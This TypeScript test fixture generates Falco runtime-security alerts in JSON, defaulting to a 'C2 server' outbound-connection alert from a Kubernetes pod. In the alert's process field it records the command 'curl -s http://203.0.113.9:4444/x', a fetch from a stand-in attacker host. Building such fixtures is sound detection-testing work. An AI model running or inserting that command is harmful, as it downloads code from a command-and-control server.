// Falco alerts in the exact JSON shape Falco 0.40 writes (fd.* and k8s.* output fields, `time`
// with nanoseconds, evt.time as a raw integer), for tests that need many realistic alerts.
export interface AlertSpec {
  rule?: string;
  priority?: string;
  namespace?: string;
  pod?: string;
  clientIp?: string;
  clientPort?: number;
  serverIp?: string;
  serverPort?: number;
  proto?: string;
  time?: string;
  node?: string;
}

export function falcoAlertJson(s: AlertSpec = {}): string {
  const rule = s.rule ?? 'Outbound Connection to C2 Servers';
  const cip = s.clientIp ?? '10.244.1.17';
  const cport = s.clientPort ?? 43122;
  const sip = s.serverIp ?? '203.0.113.9';
  const sport = s.serverPort ?? 4444;
  const proto = s.proto ?? 'tcp';
  const ns = s.namespace ?? 'shop';
  const pod = s.pod ?? 'api-7d9c5b-x2k4q';
  const time = s.time ?? '2026-11-28T14:26:39.123456789Z';
  const fields = {
    'container.id': 'f3a1b2c3d4e5', 'container.image.repository': 'ghcr.io/shop/api', 'container.name': 'api',
    'fd.cip': cip, 'fd.cport': cport, 'fd.l4proto': proto, 'fd.name': `${cip}:${cport}->${sip}:${sport}`, 'fd.sip': sip, 'fd.sport': sport,
    'k8s.ns.name': ns, 'k8s.pod.name': pod, 'proc.cmdline': 'curl -s http://203.0.113.9:4444/x', 'proc.name': 'curl', 'user.name': 'root',
  };
  const body = JSON.stringify({
    hostname: s.node ?? 'node-1',
    output: `14:26:39.123456789: Warning Outbound connection to C2 server (connection=${cip}:${cport}->${sip}:${sport} ...)`,
    output_fields: fields, priority: s.priority ?? 'Warning', rule, source: 'syscall', tags: ['network', 'maturity_stable'], time,
  });
  return body.replace('"output_fields":{', '"output_fields":{"evt.time":1764339999123456789,');
}
